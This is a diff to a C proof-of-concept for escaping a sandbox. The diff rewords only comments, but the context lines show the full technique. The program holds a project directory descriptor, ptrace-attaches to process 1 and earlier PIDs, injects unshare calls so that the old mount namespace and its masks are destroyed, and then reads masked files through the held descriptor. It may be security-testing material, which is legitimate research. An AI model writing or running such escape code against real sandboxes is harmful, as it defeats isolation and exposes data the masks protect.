@@ -1,6 +1,6 @@
-/* A mount namespace that nobody is in any more is taken down, and its masks with it. So: hold the project open, make
- * process 1 of the sandbox leave the mount namespace (by ptrace: it belongs to the same user), leave it too, and look
- * through the descriptor for what was masked. */
+/* The kernel destroys a mount namespace without processes, and its masks with it. The attack holds the project open,
+* makes process 1 of the sandbox leave the mount namespace by ptrace, which it may because both belong to one user,
+* leaves the namespace itself, and reads the masked file through the descriptor. */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
@@ -46,14 +46,14 @@ static int look(int project, const char *path)
     return 1;
 }
 
-/* The argument says how often to look, 10 ms apart. */
+/* The argument is the number of attempts to read, 10 ms apart. */
 int main(int argc, char **argv)
 {
     const long away = CLONE_NEWUSER | CLONE_NEWNS;
     if (argc != 2)
         return 2;
     int project = open(".", O_RDONLY | O_DIRECTORY);
-    /* The one that is to leave is every process that may still be in the namespace: 1, and who started us. */
+    /* All earlier processes of the namespace must leave: process 1 and the parents of this one. */
     for (pid_t pid = 1; pid < getpid(); pid++) {
         if (ptrace(PTRACE_ATTACH, pid, 0, 0)) {
             printf("attach %d %d\n", pid, errno);
@@ -61,7 +61,7 @@ int main(int argc, char **argv)
         }
         waitpid(pid, 0, __WALL);
         printf("unshare in %d %ld\n", pid, inject(pid, SYS_unshare, away));
-        /* Its root and working directory are in the old namespace no more: unshare has moved them. */
+        /* unshare has also moved the root and working directory of the process to the new namespace. */
         ptrace(PTRACE_DETACH, pid, 0, 0);
     }
     printf("unshare %d\n", unshare(away) ? errno : 0);
